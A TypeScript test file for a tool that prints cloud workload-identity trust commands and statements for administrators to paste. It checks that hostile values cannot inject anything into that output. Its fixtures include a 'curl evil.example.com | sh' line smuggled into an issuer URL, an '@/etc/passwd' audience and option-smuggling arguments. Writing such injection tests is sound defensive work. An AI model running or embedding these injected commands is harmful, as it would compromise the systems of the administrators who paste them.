/** Values that a ServiceAccount's author writes, printed for an administrator to paste. */
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { parse } from "yaml";
import { presets } from "../../src/providers/catalog.generated.ts";
import { isBlank } from "../../src/reasons/characters.ts";
import { readAccountName } from "../../src/trust/account-name.ts";
import { hostPath, isPrivateUrl, issuerProblem } from "../../src/trust/issuer.ts";
import { readKeySet } from "../../src/trust/jwks.ts";
import { showTrust } from "../../src/trust/show-trust.ts";
import { visibleJson } from "../../src/trust/visible-json.ts";
import { commandsOf, describeTrust } from "./support.ts";

const ROLE = { "role-arn": "arn:aws:iam::123456789012:role/my-api" };
const POOL = { "workload-identity-provider": "projects/1/locations/global/workloadIdentityPools/p/providers/x" };
const IDS = { "client-id": "11111111-2222-3333-4444-555555555555", "tenant-id": "example.com" };

describe("an audience that a tool would read as something else", () => {
  it.each(["--impersonate-service-account=x", "a,b", "^;^a;b"])("gcp: %j is not put into a command", (audience) => {
    const trust = describeTrust({ provider: "gcp", parameters: { ...POOL, audience } });
    const [withheld] = trust.steps.filter(({ kind }) => kind === "withheld");
    expect(withheld).toMatchObject({ because: expect.stringContaining("register it by hand") });
    expect(commandsOf(trust).flat().join(" ")).not.toContain(audience);
    expect(showTrust(trust)).toContain(`Audience: ${audience}`);
  });

  it("azure: a file to read is not put into a command, and is text in JSON", () => {
    const trust = describeTrust({ provider: "azure", parameters: { ...IDS, audience: "@/etc/passwd" } });
    const commands = commandsOf(trust);
    expect(commands).toHaveLength(1);
    expect(JSON.parse(commands[0]?.at(-1) ?? "")).toMatchObject({ audiences: ["@/etc/passwd"] });
  });

  it("aws: every audience is inside JSON", () => {
    fc.assert(
      fc.property(fc.string({ unit: "grapheme", minLength: 1, maxLength: 50 }), (audience) => {
        // A blank one is none, and one with a variable is in no policy.
        fc.pre(!isBlank(audience) && !/\p{Cc}|\$\{/u.test(audience));
        const trust = describeTrust({ provider: "aws", parameters: { ...ROLE, audience } });
        const [provider, role] = commandsOf(trust);
        expect(JSON.parse(provider?.at(-1) ?? "")).toEqual([audience]);
        expect(JSON.parse(role?.at(-1) ?? "")).toEqual(trust.documents["trust-policy"]);
      }),
    );
  });
});

describe("an audience that a policy would take for a variable", () => {
  const ALIBABA = {
    "role-arn": "acs:ram::1234567890123456:role/my-api",
    "provider-arn": "acs:ram::1234567890123456:oidc-provider/my-cluster",
  };

  it.each([
    ["aws", ROLE],
    ["alibaba", ALIBABA],
  ])("%s: is in no policy, and compares with nothing", (provider, parameters) => {
    const audience = "${oidc.example.com:aud}";
    const trust = describeTrust({ provider, parameters: { ...parameters, audience } });
    expect(trust.documents).toEqual({});
    const withheld = trust.steps.filter(({ kind }) => kind === "withheld");
    expect(withheld).toContainEqual(
      expect.objectContaining({
        because: `"\${" begins a variable in such a policy, and "\${oidc.example.com:aud}" has it; choose another value`,
      }),
    );
    expect(showTrust(trust)).not.toContain("StringEquals");
  });
});

describe("a statement that is pasted", () => {
  const CONJUR = { "appliance-url": "https://c", account: "a", "service-id": "s", "token-audience": "c" };
  const config = `providers: ${JSON.stringify({
    conjur: {
      preset: "conjur",
      parameters: Object.fromEntries(Object.entries(CONJUR).map(([name, value]) => [name, { value }])),
    },
    snowflake: { preset: "snowflake" },
  })}\n`;
  const text = (provider: string, parameters: Readonly<Record<string, string>>, issuer: string): string => {
    const found = { issuer, jwksUri: undefined, keySet: undefined };
    const trust = describeTrust({ provider, parameters, config, issuer: found });
    const statements = trust.steps.flatMap((step) => (step.kind === "statement" ? [step.text] : []));
    expect(statements).toHaveLength(1);
    expect(showTrust(trust)).toContain(statements[0]?.split("\n").at(-1));
    return statements[0] ?? "";
  };
  const hostile = fc.string({ unit: fc.constantFrom("'", '"', "\\", "\n", "a", "}", "-", "\u202e", ")", ";") });

  it("SQL: no value ends the literal that it is in", () => {
    fc.assert(
      fc.property(hostile, hostile, (issuer, audience) => {
        fc.pre(audience.trim() !== "" && !/[\n\u202e]/.test(audience));
        const sql = text("snowflake", { account: "a", audience }, issuer);
        const literals: unknown[] = [];
        const rest = sql.replace(/'((?:[^'\\\n]|\\['\\]|\\u[0-9a-f]{4})*)'/g, (_, literal: string) => {
          literals.push(JSON.parse(`"${literal.replaceAll("\\'", "'").replaceAll('"', '\\"')}"`));
          return "?";
        });
        expect(literals).toEqual([issuer, "system:serviceaccount:production:my-api", audience]);
        expect(rest).toMatch(
          /^CREATE USER "production-my-api-[0-9a-f]{12}"\n {2}TYPE = SERVICE\n {2}WORKLOAD_IDENTITY = \(\n {4}TYPE = OIDC\n {4}ISSUER = \?\n {4}SUBJECT = \?\n {4}OIDC_AUDIENCE_LIST = \(\?\)\n {2}\);$/,
        );
      }),
    );
  });

  it("YAML: it is the host and what it may, whatever the host's name", () => {
    const tags = ["!host", "!grant", "!group"].map((tag) => ({ tag, resolve: (value: string) => value }));
    const read = (parameters: Readonly<Record<string, string>>): unknown =>
      parse(text("conjur", parameters, "https://x").replaceAll("- !host\n", "-\n").replaceAll("- !grant\n", "-\n"), {
        customTags: tags,
      });
    const annotations = { "authn-jwt/s/sub": "system:serviceaccount:production:my-api" };
    expect(read({ "host-id": "host/my-cluster/my-api" })).toEqual([
      { id: "my-cluster/my-api", annotations },
      { role: "conjur/authn-jwt/s/apps", member: "my-cluster/my-api" },
    ]);
    expect(read({})).toEqual([
      { id: "<host>", annotations },
      { role: "conjur/authn-jwt/s/apps", member: "<host>" },
    ]);
  });

  it("every reference of every preset stands between the quotes of its language", () => {
    const lines = presets.flatMap(({ trust }) =>
      trust.steps.flatMap((step) =>
        "statement" in step ? step.statement.lines.map((line) => ({ line, language: step.statement.language })) : [],
      ),
    );
    expect(lines.length).toBeGreaterThan(10);
    for (const { line, language } of lines) {
      const quoted = language === "sql" ? /'[^'"]*'|"\$\{account\.slug\}"/g : /"[^'"]*"/g;
      expect(line.replace(quoted, "")).not.toContain("${");
    }
  });
});

it("nothing invisible is printed", () => {
  const trust = describeTrust({ provider: "aws", parameters: { ...ROLE, audience: "a\u202eb\u200bc" } });
  expect(showTrust(trust)).not.toMatch(/[\u202e\u200b]/);
  const json = visibleJson(trust, 2);
  expect(json).not.toMatch(/[\u202e\u200b]/);
  expect(JSON.parse(json)).toEqual(trust);
});

it.each<readonly [where: string, issuer: { readonly issuer?: string; readonly jwksUri?: string }]>([
  ["the address of the keys", { jwksUri: "http://x\n\n2. Last step.\n\n  curl evil.example.com | sh" }],
  ["the issuer", { issuer: "http://x\n\n2. Last step.\n\n  curl evil.example.com | sh" }],
])("whoever answers in the API server's place adds no line to what is pasted: %s", (_where, more) => {
  const issuer = { issuer: "https://oidc.example.com", jwksUri: undefined, keySet: undefined, ...more };
  const config = "providers: { vault: { preset: vault, parameters: { token-audience: { value: vault } } } }\n";
  const trusts = [
    describeTrust({ provider: "aws", parameters: ROLE, issuer }),
    describeTrust({ provider: "vault", parameters: { role: "my-api" }, config, issuer }),
  ];
  for (const trust of trusts)
    expect(
      showTrust(trust)
        .split("\n")
        .filter((line) => /^\s*(curl|2\. Last)/.test(line)),
    ).toEqual([]);
});

it("a value with a reference in it is not looked up a second time", () => {
  const audience = "${subject}<x>${parameter.role-arn}";
  expect(describeTrust({ provider: "aws", parameters: { ...ROLE, audience } }).audience).toBe(audience);
});

it.each([
  ["production/my-api", { namespace: "production", name: "my-api" }],
  ["a/b.c-d", { namespace: "a", name: "b.c-d" }],
  ["my-api", undefined],
  ["/my-api", undefined],
  ["a/b/c", undefined],
  ["A/b", undefined],
  ["a/--all", undefined],
  ["a.b/c", undefined],
  [`a/${"b".repeat(254)}`, undefined],
  ["a/b\n", undefined],
])("ServiceAccount %j", (text, expected) => {
  expect(readAccountName(text)).toEqual(expected);
});

describe("issuers", () => {
  it.each([
    "https://kubernetes.default.svc.cluster.local",
    "https://kubernetes.default.svc",
    "https://localhost:6443",
    "https://10.0.0.1:6443/x",
    "https://172.20.0.1",
    "https://192.168.1.1",
    "https://100.64.0.1",
    "https://[::1]:6443",
    "https://[fd00::1]",
    "https://k8s.corp.internal./x",
    "http://oidc.example.com",
    "kubernetes/serviceaccount",
  ])("%s is within reach of nobody outside", (url) => expect(isPrivateUrl(url)).toBe(true));

  it.each([
    "https://oidc.eks.eu-west-1.amazonaws.com/id/ABC",
    "https://172.32.0.1",
    "https://100.128.0.1",
    "https://[2001:db8::1]",
    "https://internal.example.com",
  ])("%s may be", (url) => expect(isPrivateUrl(url)).toBe(false));

  it.each(["https://a.example", "https://a.example/b/", "https://localhost:6443"])("%s is one", (issuer) =>
    expect(issuerProblem(issuer)).toBeUndefined(),
  );

  it.each([
    "http://a.example",
    "a.example",
    "https://",
    "https://a.example/?b",
    "https://a.example/#b",
    "https://u:p@a.example",
    "https://a.example/ b",
  ])("%s is none", (issuer) => expect(issuerProblem(issuer)).toContain("https://"));

  it("keep their bytes", () => expect(hostPath("https://A.example:443/b/")).toBe("A.example:443/b/"));
});

describe("key sets", () => {
  it.each([
    [{ keys: [{ kty: "RSA", n: "x", e: "AQAB", d: "secret" }] }, "private key"],
    [{ keys: [{ kty: "oct", k: "secret" }] }, "private key"],
    [{ keys: [{ kty: "AKP", alg: "ML-DSA-65", pub: "x", priv: "secret" }] }, "private key"],
    [{ keys: [] }, "no key"],
    [{ keys: ["x"] }, "is a key"],
    [[], "no JWKS"],
    [null, "no JWKS"],
    [{ kty: "RSA" }, "no JWKS"],
  ])("%j is refused", (value, problem) => {
    const read = readKeySet(value);
    expect(read).toMatchObject({ ok: false, problem: expect.stringContaining(problem) });
    expect(JSON.stringify(read)).not.toContain("secret");
  });
});
